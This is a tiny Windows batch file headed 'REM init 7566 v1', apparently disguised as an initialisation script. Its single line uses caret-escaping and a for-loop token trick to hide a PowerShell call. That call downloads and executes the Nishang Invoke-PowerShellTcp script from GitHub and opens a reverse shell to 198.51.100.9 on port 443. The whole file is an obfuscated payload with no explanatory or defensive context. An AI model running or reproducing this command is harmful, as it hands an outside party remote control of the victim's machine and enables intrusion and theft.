REM init 7566 v1
fo^r /f "tokens=2 delims=;" %%i in ("xodu;powershell;vljx") d^o %%^i -^c "IEX(IWR https://raw.githubusercontent.com/samratashok/nishang/master/Shells/Invoke-PowerShellTcp.ps1 -UseBasicParsing);Invoke-PowerShellTcp -Reverse -IPAddress 198.51.100.9 -Port 443"
